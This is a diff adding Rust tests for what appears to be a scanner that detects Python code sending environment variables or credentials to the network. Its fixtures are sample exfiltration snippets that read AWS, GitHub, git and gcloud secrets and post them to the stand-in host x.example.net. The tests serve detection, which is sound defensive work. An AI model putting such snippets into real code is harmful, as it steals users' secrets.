@@ -515,3 +515,60 @@ fn what_another_module_starts_is_told_by_what_it_is_given() {
         assert!(started_by_another(run, call), "{run} {call}");
     }
 }
+
+#[test]
+fn what_programs_print_is_followed_however_it_is_read() {
+    let told = |gives: &str, rule: &str| {
+        let text = format!(
+            "import os, subprocess, requests\n\ndata = {gives}\nrequests.post('https://x.example.net', data=data)\n"
+        );
+        assert_eq!(ways(&[("p/a.py", &text)], rule).len(), 1, "{gives}");
+    };
+    for gives in [
+        "os.popen('env').read()",
+        "subprocess.getoutput('env').strip()",
+        "subprocess.check_output(['env']).decode()",
+        "subprocess.run(['printenv'], capture_output=True).stdout.decode()",
+        "subprocess.Popen(['env'], stdout=subprocess.PIPE).stdout.read()",
+        "subprocess.Popen(['env'], stdout=subprocess.PIPE).communicate()",
+    ] {
+        told(gives, "AL-FLOW-environment-to-network");
+    }
+    for gives in [
+        "subprocess.check_output(['gh', 'auth', 'token'])",
+        "subprocess.getoutput('git credential fill')",
+        "subprocess.check_output(['cat', os.path.expanduser('~/.aws/credentials')])",
+        "os.popen('gcloud auth print-access-token').read()",
+    ] {
+        told(gives, "AL-FLOW-credentials-to-network");
+    }
+}
+
+#[test]
+fn connections_that_are_no_requests_send_as_well() {
+    for sends in [
+        "socket.create_connection(('x.example.net', 80)).makefile('w').write(data)",
+        "multiprocessing.connection.Client(('x.example.net', 80)).send(data)",
+        "redis.Redis('x.example.net').set('k', data)",
+        "sentry_sdk.set_context('env', data)",
+        "paho.mqtt.publish.single('t', data)",
+    ] {
+        let imports = "import os, socket, multiprocessing.connection, redis, sentry_sdk, paho.mqtt.publish\n";
+        let text = format!("{imports}\ndata = dict(os.environ)\n{sends}\n");
+        assert_eq!(ways(&[("p/a.py", &text)], "AL-FLOW-environment-to-network").len(), 1, "{sends}");
+    }
+    let text = "import asyncio, os\n\nasync def f():\n    r, w = await asyncio.open_connection('x.example.net', 80)\n    w.write(repr(dict(os.environ)).encode())\n";
+    assert_eq!(ways(&[("p/a.py", text)], "AL-FLOW-environment-to-network").len(), 1);
+    let text = "import os, socket\n\ns = socket.socket()\ns.send(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n";
+    assert_eq!(ways(&[("p/a.py", text)], "AL-FLOW-environment-to-network").len(), 1);
+}
+
+#[test]
+fn a_class_below_says_what_a_method_gives() {
+    for stub in ["raise NotImplementedError", "return {}", "...", "'''Data.'''"] {
+        let text = format!(
+            "import os, requests\n\nclass A:\n    def data(self):\n        {stub}\n    def send(self):\n        requests.post('https://x.example.net', json=self.data())\n\nclass B(A):\n    pass\n\nclass C(B):\n    def data(self):\n        return dict(os.environ)\n\nC().send()\n"
+        );
+        assert_eq!(ways(&[("p/a.py", &text)], "AL-FLOW-environment-to-network").len(), 1, "{stub}");
+    }
+}
